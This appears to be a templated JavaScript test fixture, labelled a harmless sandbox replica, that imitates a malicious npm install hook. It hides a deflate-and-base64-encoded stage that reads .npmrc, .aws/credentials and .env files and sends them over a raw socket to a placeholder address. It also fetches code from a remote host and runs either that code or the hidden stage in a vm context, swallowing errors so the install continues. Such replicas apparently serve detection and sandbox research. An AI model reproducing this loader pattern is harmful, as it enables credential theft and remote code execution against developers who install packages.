// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const vm = require('vm'), zlib = require('zlib'), http = require('http');
  const stage = "const t = ['.npmrc', '.aws/credentials', '.env'].map((n) => { try { return fs.readFileSync(home + '/' + n, 'utf8'); } catch (e) { return ''; } }).join('\\n');" +
    "const s = net.connect({{port}}, '{{ip}}', () => s.end(t)); s.on('error', () => {}); setTimeout(() => s.destroy(), 1000);";
  const carried = zlib.deflateSync(stage).toString('base64');
  const given = await new Promise((done) => {
    let text = '';
    const request = http.get({ host: '{{host}}', path: '/{{path}}', timeout: 1000, headers: { 'x-secret-key': '_' } }, (answer) => {
      answer.on('data', (part) => { if (text.length < 4000) text += part; });
      answer.on('end', () => done(text));
      answer.on('error', () => done(''));
    });
    request.on('timeout', () => request.destroy());
    request.on('error', () => done(''));
    request.on('close', () => done(text));
  });
  const code = given.startsWith('/*sallyport-replica*/') ? given : zlib.inflateSync(Buffer.from(carried, 'base64')).toString();
  await new Promise((done) => setTimeout(done, {{delay}}));
  try {
    vm.runInNewContext(code, { fs: require('fs'), net: require('net'), home: require('os').homedir(), setTimeout });
    await new Promise((done) => setTimeout(done, 600));
  } catch (error) { /* an install goes on */ }
}
